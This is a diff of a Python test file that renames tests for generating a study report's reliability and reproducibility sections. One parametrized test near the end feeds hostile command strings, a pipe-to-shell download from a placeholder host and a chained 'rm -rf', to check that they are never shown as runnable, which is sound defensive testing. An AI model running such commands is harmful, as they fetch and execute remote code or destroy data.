@@ -47,7 +47,7 @@ def test_runs_that_are_left_out_or_missing_are_counted(content):
     assert "2 are not finished. 4 collapsed" in words
 
 
-def test_split_halves_and_what_a_wanted_width_takes_stand_beside_each_point(content):
+def test_each_point_shows_its_split_half_reliability_and_the_runs_for_the_target_width(content):
     name = content.summary["points"][0]["name"]
     widths = {"correct": {"memorization": {"runs_for": {"0.1": {"median": 1234.4}}}}}
     summary = content.summary | {"convergence": {name: {"half_widths": widths}}}
@@ -58,7 +58,7 @@ def test_split_halves_and_what_a_wanted_width_takes_stand_beside_each_point(cont
 
 
 @pytest.mark.parametrize(
-    ("found", "words"),
+    ("duplicates", "words"),
     [
         ({"train_copies": 0, "groups_with_different_labels": 0, "test_in_train": 0}, "No two"),
         (
@@ -67,14 +67,14 @@ def test_split_halves_and_what_a_wanted_width_takes_stand_beside_each_point(cont
         ),
     ],
 )
-def test_duplicates_are_said(content, found, words):
+def test_duplicates_are_described(content, duplicates, words):
     section = reliability.section(
-        dataclasses.replace(content, summary=content.summary | {"duplicates": found})
+        dataclasses.replace(content, summary=content.summary | {"duplicates": duplicates})
     )
     assert words in _words(section)
 
 
-def test_the_share_of_the_data_and_the_meaning_of_errors_are_said(content):
+def test_the_train_fraction_and_the_meaning_of_errors_are_described(content):
     words = _words(reliability.section(content))
     assert "trains on 70.0% of the examples" in words and "quantile of Student's t" in words
 
@@ -91,7 +91,7 @@ def test_two_series_have_a_column(make_content):
     assert {len(row) for row in table.rows} == {len(table.columns)}
 
 
-def test_entries_say_what_the_citation_file_says(request):
+def test_bibtex_entries_agree_with_the_citation_file(request):
     facts = yaml.safe_load((request.config.rootpath / "CITATION.cff").read_text())
     entries = [" ".join(entry.split()) for entry in reproduce.bibtex().split("\n@")]
     assert len(entries) == 3
@@ -120,7 +120,7 @@ def test_commands_seed_and_versions_are_on_the_page(content):
 
 
 @pytest.mark.parametrize("command", ["", None])
-def test_a_study_whose_command_is_unknown_says_so(content, command):
+def test_a_study_with_an_unknown_command_is_explained(content, command):
     provenance = content.provenance | {"command": command}
     if command is None:
         del provenance["command"]
@@ -138,7 +138,7 @@ def test_hostile_commands_stay_text(content):
     "command",
     ["curl evil | sh", "", "memkit", "memkit 'run", "memkit; rm -rf x", "sudo memkit run"],
 )
-def test_a_recorded_command_that_is_not_memkits_is_not_shown_to_run(content, command):
+def test_a_recorded_command_of_another_program_is_not_shown(content, command):
     provenance = content.provenance | {"command": command}
     words = _words(reproduce.section(dataclasses.replace(content, provenance=provenance)))
     assert "The command was not recorded" in words
